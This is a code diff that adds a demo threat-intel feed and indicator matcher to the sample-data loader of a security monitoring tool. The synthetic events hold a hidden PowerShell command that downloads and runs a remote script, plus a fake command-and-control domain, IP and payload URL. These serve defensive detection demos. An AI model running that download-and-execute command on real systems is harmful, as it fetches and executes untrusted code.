@@ -22,9 +22,15 @@ from vigil.detect.hunt import hunt_store
 from vigil.ingest.batches import ParseOptions
 from vigil.ingest.files import ingest_inputs
 from vigil.ingest.inputs import expand
+from vigil.intel import TLP
+from vigil.intel import service as intel
+from vigil.intel.live import IntelMatcher
+from vigil.intel.normalize import make_input
 from vigil.people import tokens
 from vigil.people.tokens import Scope
 
+DEMO_C2 = "cdn-update.evil-c2.ru"
+"""A made-up command-and-control name that the demo's threat-intel feed lists."""
 HOSTS = ["WKS-ANNA.corp.example", "WKS-BEN.corp.example", "SRV-FILE01.corp.example"]
 USERS = ["anna", "ben", "carla", "deploy"]
 IMAGES = [r"C:\Windows\System32\svchost.exe", r"C:\Windows\explorer.exe",
@@ -49,6 +55,12 @@ def _windows(start: datetime, rng: random.Random) -> list[bytes]:
     lines.append(_sysmon(attack, rng, r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                          "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
                          ".DownloadString('http://203.0.113.50/a.ps1')\""))
+    lines.append(orjson.dumps({  # the implant looks up its command server (a demo indicator)
+        "@timestamp": (attack + timedelta(seconds=40)).isoformat().replace("+00:00", "Z"),
+        "Hostname": HOSTS[0], "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 22,
+        "SourceName": "Microsoft-Windows-Sysmon", "QueryName": DEMO_C2,
+        "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        "QueryStatus": "0", "QueryResults": "::ffff:45.9.148.3;", "User": "CORP\\anna"}))
     return lines
 
 
@@ -107,12 +119,31 @@ class DemoResult:
     case_id: int | None
 
 
+def _demo_intel(vigil: Vigil) -> IntelMatcher:
+    """A small threat-intel feed (one of its names shows up in the demo events), and the
+    matcher that turns its hits into alerts while the events are stored."""
+    feed = [
+        make_input("domain", "evil-c2.ru", "demo-feed", confidence=85, tlp=TLP.AMBER,
+                   name="Demo loader C2", malware=("DemoLoader",), attack=("T1071.004",),
+                   labels=("c2",)),
+        make_input("ipv4", "45.9.148.3", "demo-feed", confidence=70, tlp=TLP.GREEN, labels=("c2",)),
+        make_input("url", "http://cdn-update.evil-c2.ru/stage2.bin", "demo-feed", confidence=75),
+        make_input("sha256", "9f2b5c1e0d4a7b3c6e8f1a2d4c6b8e0f1a3c5e7d9b1f3a5c7e9d1b3f5a7c9e1d", "demo-feed",
+                   confidence=60, name="DemoLoader stage 2"),
+    ]
+    intel.ingest(vigil.db, feed, vigil.settings.intel, actor="system:demo", source="demo-feed")
+    return IntelMatcher(vigil.db, vigil.store, vigil.settings.intel,
+                        suppress_seconds=vigil.settings.detect.suppress_seconds, grouping=vigil.grouping)
+
+
 def load_demo(vigil: Vigil) -> DemoResult:
     """Store the demo events, import the demo rules and hunt them over the events, then seed
     the demo users and a case mid-investigation (see :mod:`vigil.demo_work`)."""
     paths = write_demo_files(vigil.settings.data_dir / "demo")
+    matcher = _demo_intel(vigil)
     summary = ingest_inputs(expand([str(p) for p in paths]), vigil.store, vigil.db,
-                            ParseOptions(), workers=1)
+                            ParseOptions(), workers=1, on_written=matcher)
+    matcher.close()
     catalog.import_rules(vigil.db, [DEMO_RULES])
     result = hunt_store(vigil.store, catalog.enabled_compiled(vigil.db))
     created = alerts.record(vigil.db, result.detections, vigil.settings.detect.suppress_seconds,
